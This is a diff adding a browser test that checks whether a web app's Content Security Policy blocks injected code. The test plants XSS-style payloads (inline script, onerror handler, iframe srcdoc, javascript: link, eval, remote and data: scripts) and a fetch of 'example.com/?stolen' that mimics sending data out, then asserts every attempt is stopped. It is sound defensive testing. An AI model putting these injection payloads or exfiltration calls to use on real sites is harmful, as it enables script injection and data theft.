@@ -121,3 +121,44 @@ def test_plotly_js_is_served_beside_the_pages_and_nothing_else_of_its_package(pa
     for path in ("", "widgetbundle.js", "templates/plotly.json"):
         other = page.request.get(f"{server.url}/vendor/{path}")
         assert "text/html" in other.headers["content-type"]  # the app's own page, as anywhere
+
+
+def test_what_somebody_slips_into_a_page_does_not_run(browser, server):
+    page = browser.new_page()  # not `page`: here the browser's console does report the attempts
+    page.goto(f"{server.url}/softmax")
+    page.wait_for_selector(IDLE)
+    page.evaluate(
+        """() => {
+            window.ran = [];
+            const stopped = new Set();
+            const tell = document.body.appendChild(document.createElement("p"));
+            tell.dataset.testid = "told";
+            document.addEventListener("securitypolicyviolation", (violation) => {
+                stopped.add(`${violation.effectiveDirective} ${violation.blockedURI}`);
+                tell.textContent = [...stopped].join();
+            });
+            const script = document.createElement("script");
+            script.textContent = "window.ran.push('script')";
+            document.body.append(script);
+            const box = document.createElement("div");
+            box.innerHTML = `<img src="x:" onerror="ran.push('handler')"><iframe srcdoc="
+                <script>parent.ran.push('frame')</script>"></iframe>
+                <a href="javascript:ran.push('address')">away</a>`;
+            document.body.append(box);
+            box.querySelector("a").click();
+            setTimeout(() => eval("ran.push('eval')"));  // here the browser's driver may eval
+            setTimeout(() => new Function("ran.push('function')")());
+            for (const url of ["https://example.com/a.js", "data:text/javascript,ran.push('data')"])
+                document.body.append(Object.assign(document.createElement("script"), { src: url }));
+            window.sent = fetch("https://example.com/?stolen").then(() => "sent", () => "stopped");
+        }"""
+    )
+    told = page.get_by_test_id("told")
+    for stopped in (
+        *("script-src-elem inline", "script-src-attr inline", "script-src eval"),
+        *("script-src-elem https://example.com", "script-src-elem data", "connect-src https://"),
+    ):
+        expect(told).to_contain_text(stopped)
+    assert page.evaluate("window.ran") == []
+    assert page.evaluate("window.sent") == "stopped"
+    page.close()
